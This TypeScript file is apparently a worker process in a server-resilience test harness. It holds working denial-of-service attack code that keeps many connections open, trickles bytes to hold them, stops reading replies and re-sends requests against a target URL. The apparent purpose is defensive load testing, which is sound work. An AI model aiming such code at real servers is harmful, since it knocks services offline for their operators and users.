import { type Socket, connect } from 'node:net';
import { ATTACKS, type AttackName, type Crowd, type Target } from './attacks.ts';

/** The process of one attacker: keeps as many connections open as the attack says, and opens another where one was closed. */
const TRICKLE_MS = 1_000;
/** Whoever was thrown out comes back, but a machine has only so many ports. */
const COME_BACK_MS = 1_000;
/** Somebody else's address than the one of those who work; all of 127.0.0.0/8 is this machine on Linux. */
const FROM = process.platform === 'linux' ? '127.0.0.2' : undefined;
const END_OF_ANSWER = /\r\n0\r\n\r\n$|\}$|\n$/;

const [name, given] = process.argv.slice(2) as [AttackName, string];
const crowd: Crowd = ATTACKS[name];
const target = JSON.parse(given) as Target;
const { hostname, port } = new URL(target.url);
const open = new Set<Socket>();

function come(n: number): void {
  const socket = connect({ port: Number(port), host: hostname, ...(FROM && { localAddress: FROM }) });
  open.add(socket);
  const send = () => void socket.write(crowd.send(target, n));
  socket.on('error', () => undefined);
  socket.on('connect', send);
  socket.on('close', () => {
    open.delete(socket);
    setTimeout(() => come(n), COME_BACK_MS * (1 + (n % 4)));
  });
  if (crowd.deaf) socket.pause();
  else if (crowd.again) {
    let left = 0;
    socket.on('data', (bytes) => {
      // Good enough for an attacker: the answers they ask for begin with their length.
      const head = left > 0 ? undefined : /content-length: (\d+)[^]*?\r\n\r\n/i.exec(bytes.toString('latin1'));
      if (head) left = Number(head[1]) - (bytes.length - head.index - head[0].length);
      else left -= bytes.length;
      if (left <= 0 || (!head && END_OF_ANSWER.test(bytes.subarray(-8).toString('latin1')))) {
        left = 0;
        send();
      }
    });
  } else socket.resume();
}

for (let n = 0; n < crowd.connections; n += 1) come(n);
if (crowd.trickle)
  setInterval(() => open.forEach((socket) => socket.readyState === 'open' && socket.write('x')), TRICKLE_MS);
process.send?.('begun');
process.on('disconnect', () => process.exit());
